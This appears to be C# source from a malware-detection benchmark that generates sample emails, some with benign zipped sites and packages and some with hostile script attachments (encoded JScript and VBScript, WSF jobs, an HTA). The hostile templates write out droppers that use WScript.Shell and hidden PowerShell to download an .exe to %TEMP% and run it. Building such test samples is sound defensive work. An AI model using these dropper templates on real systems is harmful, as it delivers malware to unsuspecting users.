using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Documents;

/// <summary>Scripts inside of something: encoded, in script files of several jobs, in HTML applications; and the sources of web pages.</summary>
internal sealed class HeldScripts : ISampleKind
{
    private static readonly AttackType[] Types = [AttackType.Behaviour, AttackType.MaliciousUrl];

    public string Name => "held-script";

    public IEnumerable<Sample> Make(Random random)
    {
        yield return Hostile("encoded JScript", "jse", ScriptEncoder.Encode(JScript(random)));
        yield return Hostile("encoded VBScript", "vbe", ScriptEncoder.Encode(VisualBasic(random)));
        yield return Hostile("script file", "wsf", $"<?xml version=\"1.0\"?>\r\n<job id=\"{random.Word()}\">\r\n<script language=\"{random.Pick(["JScript", "jscript"])}\"><![CDATA[\r\n{JScript(random)}\r\n]]></script>\r\n<script language=\"VBScript\"><![CDATA[\r\n{VisualBasic(random)}\r\n]]></script>\r\n</job>");
        yield return Hostile("HTML application", "hta", $"<html><head><hta:application id=\"{random.Word()}\" showintaskbar=\"no\"/><script language=\"VBScript\">\r\nSub Window_OnLoad\r\n{VisualBasic(random)}\r\nwindow.close\r\nEnd Sub\r\n</script></head><body>{random.Word()}</body></html>");

        yield return Benign("web site", Site(random));
        yield return Benign("package", Package(random));
        yield return Benign("page with a module", Site(random));
        yield return Benign("sources with styles", Package(random));

        Sample Hostile(string name, string extension, string text) =>
            Sample.Hostile(name, SampleMail.With(random, SampleFile.Text($"{random.DocumentName()}.{extension}", text, "application/octet-stream")), Types, "script-attachment", "behaviour-installs", "behaviour-execute");

        Sample Benign(string name, SampleFile[] files) => Sample.Benign(name, SampleMail.With(random, new SampleFile($"{random.Word()}.zip", ZipOf.Files(files), "application/zip")));
    }

    private static string JScript(Random random)
    {
        string shell = random.Word(), url = random.Word();
        return $"var {shell} = new ActiveXObject(\"WScript.Shell\");\r\nvar {url} = \"{random.Address(".exe")}\";\r\n{shell}.Run(\"powershell -w hidden iwr \" + {url} + \" -OutFile %TEMP%\\\\{random.Word()}.exe; %TEMP%\\\\{random.Word()}.exe\", 0);\r\n";
    }

    private static string VisualBasic(Random random)
    {
        var shell = random.Word();
        return $"Set {shell} = CreateObject(\"WScript.Shell\")\r\n{shell}.Run \"cmd /c powershell {random.Downloader().Replace("\"", "\"\"", StringComparison.Ordinal)}\", 0, False\r\n";
    }

    private static SampleFile[] Site(Random random) =>
    [
        SampleFile.Text("site/index.html", $"<!DOCTYPE html><html><head><title>{random.Word()}</title><link rel=\"stylesheet\" href=\"style.css\"><script src=\"app.js\"></script></head><body><h1>{random.Word()}</h1></body></html>"),
        SampleFile.Text("site/style.css", $".{random.Word()} {{ color: #{random.Next(0x1000000):x6}; }}"),
        SampleFile.Text("site/app.js", $"document.addEventListener('DOMContentLoaded', function () {{\n  var {random.Word()} = document.getElementById('{random.Word()}');\n  window.location.hash = '{random.Word()}';\n}});\n"),
    ];

    private static SampleFile[] Package(Random random) =>
    [
        SampleFile.Text("package.json", $"{{ \"name\": \"{random.Word()}\", \"version\": \"1.{random.Next(9)}.0\", \"main\": \"index.js\" }}"),
        SampleFile.Text("index.js", $"const path = require('path');\nfunction {random.Word()}(a) {{ return path.join(__dirname, a); }}\nmodule.exports = {{ {random.Word()}: 1 }};\n"),
        SampleFile.Text("src/view.js", $"import {{ {random.Word()} }} from './{random.Word()}.js';\nexport const {random.Word()} = () => document.querySelector('.{random.Word()}');\n"),
    ];
}
